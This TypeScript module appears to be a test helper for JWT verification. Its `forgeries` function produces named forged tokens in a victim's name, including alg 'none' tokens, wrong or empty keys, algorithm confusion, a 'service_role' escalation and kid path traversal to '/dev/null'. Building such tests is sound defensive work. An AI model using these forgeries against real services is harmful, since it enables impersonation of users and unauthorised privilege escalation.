// Forged tokens: each is a user's, but for one thing.
import { createHmac, generateKeyPairSync, randomBytes, sign as signWith } from "node:crypto";

type Claims = Record<string, unknown>;

const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url");

/** A JWT, signed with HS256. */
export function sign(claims: Claims, secret: string, header: Claims = {}): string {
  const body = `${encode({ alg: "HS256", typ: "JWT", ...header })}.${encode(claims)}`;
  return `${body}.${createHmac("sha256", secret).update(body).digest("base64url")}`;
}

/** The beginning of an ES256 token, with the signature of a key that is nobody's. */
function signed(body: string): string {
  const { privateKey: key } = generateKeyPairSync("ec", { namedCurve: "P-256" });
  const signature = signWith("sha256", Buffer.from(body), { key, dsaEncoding: "ieee-p1363" });
  return `${body}.${signature.toString("base64url")}`;
}

/** The claims in a token. */
export function claimsOf(token: string): Claims {
  return JSON.parse(Buffer.from(token.split(".")[1] ?? "", "base64url").toString());
}

/** Tokens in the victim's name, made from another user's `token`, by the name of the attack. `secret` signed it. */
export function forgeries(token: string, secret: string, victim: string): Record<string, string> {
  const claims = { ...claimsOf(token), sub: victim };
  const [header, , signature] = token.split(".");
  const wrong = randomBytes(32).toString("base64url");
  const now = Math.floor(Date.now() / 1000);
  return {
    "wrong key": sign(claims, wrong),
    "empty key": sign(claims, ""),
    expired: sign({ ...claims, iat: now - 7200, exp: now - 3600 }, secret),
    "alg none": `${encode({ alg: "none", typ: "JWT" })}.${encode(claims)}.`,
    "alg None, signature kept": `${encode({ alg: "None", typ: "JWT" })}.${encode(claims)}.${signature}`,
    "no signature": `${token.split(".").slice(0, 2).join(".")}.`,
    "the victim's id under the old signature": `${header}.${encode(claims)}.${signature}`,
    "another key under the same id": signed(`${header}.${encode(claims)}`),
    "another algorithm": sign(claims, secret, { alg: "RS256", kid: "1" }),
    "service_role, wrong key": sign({ ...claims, role: "service_role" }, wrong),
    "service_role, alg none": `${encode({ alg: "none" })}.${encode({ ...claims, role: "service_role" })}.`,
    "key by a path": sign(claims, "", { kid: "/dev/null" }),
    "not a token": "null",
  };
}
